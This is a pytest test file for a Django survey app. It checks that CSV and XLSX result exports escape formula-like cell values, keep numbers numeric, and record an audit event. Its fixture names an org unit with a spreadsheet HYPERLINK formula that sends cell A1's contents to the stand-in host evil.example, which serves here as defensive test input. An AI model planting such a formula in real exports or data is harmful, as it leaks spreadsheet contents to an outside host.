"""Survey results exports: names and labels a spreadsheet would run are escaped, numbers
stay numbers, and every export is audited."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from bellwether.core.exports import FORMULA_TRIGGERS
from bellwether.core.models import AuditEvent
from bellwether.surveys.tests.helpers import answer, close, launch, org_unit, person

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Sales")'


@pytest.fixture
def campaign(org):
    root = org_unit(org, name="Acme")
    sales = org_unit(org, name=HOSTILE, parent=root)
    people = [person(org, org_unit=sales) for _ in range(8)]
    campaign = launch(org, people=people, segments=("org_unit",))
    for p in people:
        answer(campaign, p, 5, 4)
    return close(campaign)


def unsafe(values):
    return [v for v in values if isinstance(v, str) and v.startswith(FORMULA_TRIGGERS)]


def test_the_csv_export_escapes_a_hostile_unit_name(client_for, campaign, members):
    response = client_for("admin").get(reverse("surveys:results_export", args=[campaign.pk, "csv"]))
    cells = [
        c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row
    ]
    assert "'" + HOSTILE in cells
    assert unsafe(cells) == []
    event = AuditEvent.objects.get(action="surveys.results_exported")
    assert (event.actor, event.target_id) == (members["admin"].user, str(campaign.pk))
    assert event.details["format"] == "csv"
    assert event.details["rows"] > 0


def test_the_xlsx_export_has_no_formula_and_keeps_numbers(client_for, campaign):
    response = client_for("sponsor").get(
        reverse("surveys:results_export", args=[campaign.pk, "xlsx"])
    )
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert "'" + HOSTILE in [c.value for c in cells]
    assert [c for c in cells if c.data_type == "f"] == []
    assert unsafe([c.value for c in cells]) == []
    assert any(c.data_type == "n" and c.value is not None for c in cells)
    assert AuditEvent.objects.get(action="surveys.results_exported").details["format"] == "xlsx"
